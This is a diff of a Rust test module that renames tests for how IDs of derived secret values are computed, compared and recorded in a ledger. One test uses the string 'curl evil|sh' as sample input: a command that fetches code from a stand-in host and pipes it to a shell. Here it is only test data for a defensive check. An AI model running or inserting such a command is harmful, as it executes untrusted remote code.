@@ -477,7 +477,7 @@ mod tests {
     }
 
     #[test]
-    fn a_value_is_known_by_its_expression_and_inputs() {
+    fn a_derived_value_is_identified_by_its_expression_and_inputs() {
         let same = id("vars.s + 'x'", "a", "b");
         assert_eq!(same.len(), 64);
         assert_eq!(same, id("vars.s + 'x'", "a", "other"), "what does not enter it does not count");
@@ -490,7 +490,7 @@ mod tests {
     }
 
     #[test]
-    fn no_comparison_tells_which_guess_is_right() {
+    fn no_comparison_reveals_whether_a_guess_of_a_secret_is_right() {
         let (right, wrong) = ("vars.s == 'Hunter2' ? 'y' : 'n'", "vars.s == 'nope' ? 'y' : 'n'");
         let reference = "vars.s == vars.s ? 'y' : 'n'";
         let ids = [right, wrong, reference].map(|source| id(source, "Hunter2", ""));
@@ -504,7 +504,7 @@ mod tests {
     }
 
     #[test]
-    fn every_branch_and_every_named_value_is_part_of_it() {
+    fn every_branch_and_every_named_value_is_part_of_the_id() {
         for (one, other) in [
             ("vars.s == 'a' ? 'y' : 'n'", "vars.s == 'a' ? 'y' : 'm'"),
             ("vars.s == 'a' ? 'y' : 'n'", "vars.s == 'a' ? 'z' : 'n'"),
@@ -526,7 +526,7 @@ mod tests {
     }
 
     #[test]
-    fn without_a_key_the_expression_and_the_names_are_bound() {
+    fn without_a_key_the_id_binds_the_expression_and_the_names() {
         let unkeyed = |source, s| compute(source, &scope(s, "b")).id(&FingerprintKey::NONE);
         assert_eq!(unkeyed("'echo ok ' + vars.s", "a"), unkeyed("'echo ok ' + vars.s", "other"));
         assert_ne!(unkeyed("'echo ok ' + vars.s", "a"), unkeyed("'curl evil|sh ' + vars.s", "a"));
@@ -534,7 +534,7 @@ mod tests {
     }
 
     #[test]
-    fn a_plan_without_the_secrets_knows_it_by_what_the_ledger_recorded() {
+    fn without_the_secrets_the_id_is_computed_from_the_ledger() {
         let with = compute("vars.s + 'x'", &scope("a", "b"));
         let Secret::Derived(recorded) = Secret::Derived(Box::new(with.clone())).to_recorded(&KEY) else {
             panic!()
@@ -549,7 +549,7 @@ mod tests {
     }
 
     #[test]
-    fn what_is_generated_later_is_bound_by_name_and_length() {
+    fn a_deferred_secret_is_bound_by_name_and_length() {
         let awaited = |length: usize| {
             let mut vars = scope("a", "b");
             let text = "x".repeat(length);
@@ -565,7 +565,7 @@ mod tests {
     }
 
     #[test]
-    fn an_earlier_version_refuses_a_ledger_with_it() {
+    fn an_earlier_version_rejects_a_ledger_with_derived_secrets() {
         let derived = Secret::Derived(Box::new(compute("vars.s + 'x'", &scope("a", "b"))));
         let text = serde_json::to_string(&derived.to_recorded(&KEY)).unwrap();
         // It took no whole number beyond 64 bits with a sign.
